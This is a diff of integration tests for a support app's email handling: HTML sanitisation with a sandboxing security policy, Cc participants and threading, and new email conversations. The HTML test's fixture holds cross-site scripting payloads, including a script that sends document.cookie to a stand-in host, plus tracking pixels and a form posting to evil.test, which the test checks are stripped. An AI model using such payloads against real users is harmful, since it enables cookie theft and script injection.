@@ -19,7 +19,7 @@ import { type SmtpReceiver, startSmtpReceiver } from "../support/smtp-receiver";
 // sent with their threading headers through the outbox, kept in Sent, and not sent twice.
 
 // A mailbox for each test, so that none reads another's mail.
-const MAILBOXES = Array.from({ length: 8 }, (_, i) => ({ user: `support${i}@shop.test`, password: `password-${i}` }));
+const MAILBOXES = Array.from({ length: 11 }, (_, i) => ({ user: `support${i}@shop.test`, password: `password-${i}` }));
 let MAILBOX = MAILBOXES[0] as (typeof MAILBOXES)[number];
 let dovecot: Dovecot;
 let smtp: SmtpReceiver;
@@ -459,6 +459,269 @@ describe("automatic mail", () => {
       isResolved: false,
     });
     expect(await autopilotTurns()).toBe(1);
+  });
+});
+
+describe("HTML mail", () => {
+  it("is sanitised when read and served for a sandboxed frame that loads no other server's image until asked", async () => {
+    const gus = `gus${Date.now()}@client.test`;
+    read();
+    const png = Buffer.from(
+      "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
+      "base64",
+    );
+    const html = [
+      "<html><head><style>body{background:url(https://tracker.test/css.png)}</style>",
+      "<script>fetch('https://evil.test/steal?c='+document.cookie)</script></head><body>",
+      '<p onclick="alert(1)">Hello <b>there</b></p>',
+      '<a href="javascript:alert(1)">click</a> <a href="https://shop.test/order">order</a>',
+      '<img src="https://tracker.test/pixel.gif" width="1" height="1" onerror="alert(2)">',
+      '<div style="background-image:url(https://tracker.test/bg.png);color:red">styled</div>',
+      '<img src="cid:logo@client.test" alt="logo"><iframe src="https://evil.test"></iframe>',
+      '<form action="https://evil.test"><input name="q"></form><svg onload="alert(3)"></svg>',
+      "</body></html>",
+    ].join("\n");
+    const raw = [
+      `From: Gus <${gus}>`,
+      `To: ${MAILBOX.user}`,
+      "Subject: Newsletter",
+      "Message-ID: <html-1@client.test>",
+      "MIME-Version: 1.0",
+      'Content-Type: multipart/related; boundary="rel"',
+      "",
+      "--rel",
+      'Content-Type: multipart/alternative; boundary="alt"',
+      "",
+      "--alt",
+      "Content-Type: text/plain; charset=utf-8",
+      "",
+      "Hello there (plain)",
+      "--alt",
+      "Content-Type: text/html; charset=utf-8",
+      "",
+      html,
+      "--alt--",
+      "--rel",
+      "Content-Type: image/png",
+      "Content-Transfer-Encoding: base64",
+      "Content-ID: <logo@client.test>",
+      'Content-Disposition: inline; filename="logo.png"',
+      "",
+      png.toString("base64"),
+      "--rel--",
+      "",
+    ].join("\r\n");
+    await dovecot.deliver(MAILBOX, raw);
+    const [message] = await stored(gus, 1);
+    // The plain part is the text; the inline logo is not listed as a file.
+    expect(message?.body).toBe("Hello there (plain)");
+    expect(message?.attachments).toEqual([]);
+    const messagesRoute = await import("@/app/api/conversation/messages/route");
+    const listed = await callRoute(messagesRoute.POST, "POST", "/", {
+      token: world.agent.token,
+      body: { conversationId: message?.conversationId },
+    });
+    expect(listed.status).toBe(404); // not the agent's conversation
+    const mine = await callRoute(messagesRoute.POST, "POST", "/", {
+      token: world.manager.token,
+      body: { conversationId: message?.conversationId },
+    });
+    expect(mine.body.messages[0].email).toEqual({
+      from: { email: gus, name: "Gus" },
+      to: [{ email: MAILBOX.user, name: "" }],
+      cc: [],
+      subject: "Newsletter",
+      html: "alternative",
+      remoteImages: true,
+    });
+
+    const htmlRoute = await import("@/app/api/messages/[id]/html/route");
+    const frame = await callRoute(htmlRoute.GET, "GET", "/", {
+      token: world.manager.token,
+      params: { id: message?.id ?? "" },
+    });
+    expect(frame.status).toBe(200);
+    expect(frame.headers.get("content-type")).toBe("text/html; charset=utf-8");
+    const policy = frame.headers.get("content-security-policy") ?? "";
+    expect(policy).toContain("default-src 'none'");
+    expect(policy).toContain("img-src 'self' data:;");
+    expect(policy).toMatch(/sandbox allow-same-origin allow-popups/);
+    expect(policy).not.toContain("allow-scripts");
+    const body = frame.text.slice(frame.text.indexOf("<body>"));
+    for (const bad of [
+      "<script",
+      "onclick",
+      "onerror",
+      "onload",
+      "javascript:",
+      "<style",
+      "url(",
+      "<iframe",
+      "<form",
+      "<input",
+      "<svg",
+      "document.cookie",
+    ]) {
+      expect(body).not.toContain(bad);
+    }
+    expect(frame.text).toContain("<b>there</b>");
+    expect(frame.text).toContain('href="https://shop.test/order" target="_blank" rel="noopener noreferrer nofollow"');
+    expect(frame.text).toContain('style="color:red"');
+    expect(frame.text).toContain('src="https://tracker.test/pixel.gif"');
+    // The inline logo is ours to serve, to whoever may read the conversation.
+    const logo = frame.text.match(/src="\/api\/attachments\/([0-9a-f]{24})"/)?.[1] ?? "";
+    const attachmentRoute = await import("@/app/api/attachments/[id]/route");
+    const image = await callRoute(attachmentRoute.GET, "GET", "/", {
+      token: world.manager.token,
+      params: { id: logo },
+    });
+    expect([image.status, image.headers.get("content-type")]).toEqual([200, "image/png"]);
+
+    const withImages = await callRoute(htmlRoute.GET, "GET", "/", {
+      token: world.manager.token,
+      params: { id: message?.id ?? "" },
+      query: { images: "1" },
+    });
+    expect(withImages.headers.get("content-security-policy")).toContain("img-src 'self' data: https: http:;");
+    for (const caller of [world.agent.token, (await createOrganization()).admin.token]) {
+      const refused = await callRoute(htmlRoute.GET, "GET", "/", { token: caller, params: { id: message?.id ?? "" } });
+      expect(refused.status).toBe(404);
+    }
+  });
+});
+
+describe("people copied", () => {
+  it("become participants; their replies join the thread; replies copy them unless the agent says otherwise", async () => {
+    const stamp = Date.now();
+    const [hana, ivan, jo] = [`hana${stamp}@client.test`, `ivan${stamp}@client.test`, `jo${stamp}@client.test`];
+    read();
+    await mail({
+      from: `Hana <${hana}>`,
+      subject: "Contract",
+      body: "Please review, Ivan and Jo copied",
+      headers: [`Cc: Ivan <${ivan}>, ${jo}, ${MAILBOX.user}`],
+    }).deliver();
+    const [opening] = await stored(hana, 1);
+    const conversationId = opening?.conversationId ?? "";
+    const conversationRoute = await import("@/app/api/conversation/[id]/route");
+    const conversation = await callRoute(conversationRoute.GET, "GET", "/", {
+      token: world.admin.token,
+      params: { id: conversationId },
+    });
+    expect(conversation.body.data.participants).toEqual([
+      { email: ivan, name: "Ivan" },
+      { email: jo, name: "" },
+    ]);
+
+    // Ivan answers without our headers (a new mail, same subject); Jo with the thread's reference.
+    await mail({ from: ivan, subject: "RE: Contract", body: "Looks fine to me" }).deliver();
+    await mail({ from: jo, subject: `Contract [#${threadToken(conversationId)}]`, body: "Agreed" }).deliver();
+    await vi.waitFor(
+      async () =>
+        expect(
+          (await db.message.findMany({ where: { conversationId }, orderBy: { createdAt: "asc" } })).map((m) => [
+            (m.email as { from: { email: string } }).from.email,
+            m.threadedBy,
+          ]),
+        ).toEqual([
+          [hana, "new"],
+          [ivan, "subject"],
+          [jo, "token"],
+        ]),
+      { timeout: 30_000, interval: 100 },
+    );
+    // Ivan's own new subject is his own conversation.
+    await mail({ from: ivan, subject: "Lunch?", body: "Unrelated" }).deliver();
+    const [lunch] = await stored(ivan, 1);
+    expect(lunch?.conversationId).not.toBe(conversationId);
+
+    // A reply goes to Hana, copying Ivan and Jo; the agent may choose otherwise.
+    const first = await callRoute(replyRoute.POST, "POST", "/", {
+      token: world.admin.token,
+      params: { id: conversationId },
+      body: { body: "Thanks all" },
+    });
+    await work(first.body.data._id);
+    expect(smtp.taken.at(-1)).toMatchObject({ to: [hana, ivan, jo], cc: [ivan, jo] });
+    const chosen = await callRoute(replyRoute.POST, "POST", "/", {
+      token: world.admin.token,
+      params: { id: conversationId },
+      body: { body: "Just you two", email: { to: [hana], cc: [ivan], subject: "Signed contract" } },
+    });
+    expect(chosen.body.data.email).toEqual({
+      to: [{ email: hana, name: "" }],
+      cc: [{ email: ivan, name: "" }],
+      subject: `Signed contract [#${threadToken(conversationId)}]`,
+    });
+    await work(chosen.body.data._id);
+    expect(smtp.taken.at(-1)).toMatchObject({
+      to: [hana, ivan],
+      cc: [ivan],
+      subject: `Signed contract [#${threadToken(conversationId)}]`,
+    });
+    const bad = await callRoute(replyRoute.POST, "POST", "/", {
+      token: world.admin.token,
+      params: { id: conversationId },
+      body: { body: "x", email: { to: ["not an address"], cc: [] } },
+    });
+    expect(bad.status).toBe(400);
+    expect(bad.body.errors).toEqual([{ path: "email.to.0", message: "must be an email address" }]);
+  });
+});
+
+describe("a new email conversation", () => {
+  it("starts from a contact as a draft of its starter's, and is a conversation once its first mail is sent", async () => {
+    const kim = `kim${Date.now()}@client.test`;
+    const contact = await db.contact.create({
+      data: { organizationId: world.organization.id, fullName: "Kim", email: kim },
+    });
+    const startRoute = await import("@/app/api/contacts/[id]/email/route");
+    const noEmail = await callRoute(startRoute.POST, "POST", "/", {
+      token: world.agent.token,
+      params: { id: world.contact.id },
+      body: { subject: "Hello" },
+    });
+    expect([noEmail.status, noEmail.body.message]).toEqual([400, "This contact has no email address"]);
+    const started = await callRoute(startRoute.POST, "POST", "/", {
+      token: world.agent.token,
+      params: { id: contact.id },
+      body: { subject: "  Your quote  " },
+    });
+    expect(started.status).toBe(201);
+    expect(started.body.data).toMatchObject({
+      isDraft: true,
+      channelType: "email",
+      channelIdentifier: kim,
+      subject: "Your quote",
+      provider: "imap",
+      emailAccountId: connectionId,
+      userId: world.agent.id,
+      contactId: contact.id,
+      messageCount: 0,
+    });
+    const conversationId = started.body.data._id;
+    const sent = await callRoute(replyRoute.POST, "POST", "/", {
+      token: world.agent.token,
+      params: { id: conversationId },
+      body: { body: "Here is your quote", email: { cc: [`boss${Date.now()}@client.test`] } },
+    });
+    expect(sent.status).toBe(201);
+    await work(sent.body.data._id);
+    const out = smtp.taken.at(-1);
+    expect(out).toMatchObject({ subject: `Your quote [#${threadToken(conversationId)}]`, inReplyTo: undefined });
+    expect(out?.to[0]).toBe(kim);
+    const after = await db.conversation.findUniqueOrThrow({ where: { id: conversationId } });
+    expect(after.isDraft).toBe(false);
+    // Kim's answer threads by our Message-ID.
+    read();
+    await mail({
+      from: kim,
+      subject: `Re: Your quote [#${threadToken(conversationId)}]`,
+      body: "Accepted",
+      headers: [`In-Reply-To: ${ourMessageId(sent.body.data._id, MAILBOX.user)}`],
+    }).deliver();
+    const [answer] = await stored(kim, 1);
+    expect(answer).toMatchObject({ conversationId, threadedBy: "references" });
   });
 });
 
